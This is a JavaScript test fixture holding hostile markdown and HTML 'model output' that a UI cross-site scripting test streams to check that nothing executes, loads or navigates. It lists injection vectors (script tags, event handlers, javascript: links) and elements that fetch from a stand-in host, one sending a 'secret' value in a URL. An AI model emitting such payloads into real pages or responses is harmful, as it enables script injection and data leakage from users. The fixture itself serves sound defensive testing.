// Hostile model output the XSS test streams: nothing in it may run,
// load from the network or navigate (tests/ui/xss.test.mjs).
export const XSS_PAYLOAD = [
  'Here are some payloads:',
  '',
  '<script>window.__xss = "script"</script>',
  '<img src=x onerror="window.__xss=\'img\'">',
  '<img src="https://evil.example/leak?d=secret">',
  '[click me](javascript:window.__xss=\'link\')',
  '<a href="javascript:window.__xss=\'a\'">raw link</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<svg onload="window.__xss=\'svg\'"><foreignObject><img src="https://evil.example/fo"></foreignObject></svg>',
  '<p style="background:url(https://evil.example/bg)">styled</p>',
  '<form action="https://evil.example/f"><input name=a></form>',
  '![x](https://evil.example/x.png)',
  '<details open ontoggle="window.__xss=\'toggle\'">d</details>',
  '',
  'A [safe link](https://example.com/docs).',
].join('\n\n');
